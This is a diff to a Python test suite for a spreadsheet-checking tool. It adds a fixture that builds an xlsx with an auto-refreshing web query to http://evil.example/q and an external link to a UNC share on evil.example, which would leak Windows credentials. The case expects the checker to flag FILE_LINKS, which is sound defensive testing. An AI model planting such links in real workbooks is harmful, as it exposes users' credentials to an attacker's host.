@@ -230,6 +230,40 @@ def _xlsm_with_autoexec(good: Path, target: Path) -> None:
     _rewrite(good, target, edit, {"xl/vbaProject.bin": vba})
 
 
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _external_links(good: Path, target: Path) -> None:
+    """A form whose formulas linked to another company's workbook on a share (opening offers to update it, and the
+    share is asked for the user's Windows credentials) and a web query refreshed on open."""
+    def edit(name, data):
+        if name == "[Content_Types].xml":
+            return data.replace(b"</Types>", b'<Override PartName="/xl/connections.xml" ContentType="application/'
+                                b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/><Override PartName='
+                                b'"/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
+                                b'officedocument.spreadsheetml.externalLink+xml"/></Types>')
+        if name == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", f'<Relationship Id="rIdC1" Type="{_REL}/connections" Target='
+                                f'"connections.xml"/><Relationship Id="rIdX1" Type="{_REL}/externalLink" Target='
+                                f'"externalLinks/externalLink1.xml"/></Relationships>'.encode())
+        if name == "xl/workbook.xml":
+            return data.replace(b"</sheets>", f'</sheets><externalReferences><externalReference xmlns:r="{_REL}" '
+                                f'r:id="rIdX1"/></externalReferences>'.encode())
+        return data
+    _rewrite(good, target, edit, {
+        "xl/connections.xml": b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats'
+                              b'.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1">'
+                              b'<webPr url="http://evil.example/q"/></connection></connections>',
+        "xl/externalLinks/externalLink1.xml": f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://'
+                                              f'schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_REL}">'
+                                              f'<externalBook r:id="rId1"/></externalLink>'.encode(),
+        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
+                                                         f'"http://schemas.openxmlformats.org/package/2006/relationships">'
+                                                         f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" Target='
+                                                         f'"file:///\\\\evil.example\\share\\%E8%B4%A2%E5%8A%A1.xlsx" '
+                                                         f'TargetMode="External"/></Relationships>'.encode()})
+
+
 def _many_residents(n: int):
     def build(good, target):
         from shibai_xl.adapters.xlsx.filler import fill_residents
@@ -349,6 +383,7 @@ TEAM_CASES = [
     Case("missing-sheet-name", "名称断链.xlsx", _name_to_missing_sheet, 0, codes={"FILE_LABELS"}, category="内容"),
     Case("wps-dimension", "WPS保存.xlsx", _wps_dimension, 0, codes=set(), category="WPS"),
     Case("autoexec-macro", "带宏.xlsm", _xlsm_with_autoexec, 0, codes={"FILE_MACRO"}, category="宏"),
+    Case("external-links", "外部链接.xlsx", _external_links, 0, codes={"FILE_LINKS"}, category="宏"),
     Case("huge-text", "超长文字.xlsx", _set("sb_performance", "业绩" * 16000), 0, codes=set(), category="内容"),
     Case("escaped-controls", "转义控制字符.xlsx", _escaped_controls, 0, codes=set(), category="内容"),
     Case("control-chars", "控制字符.xlsx", _set("sb_address", "贵阳\u202e市\u200b红色\ufeff"), 0, codes=set(), category="内容"),
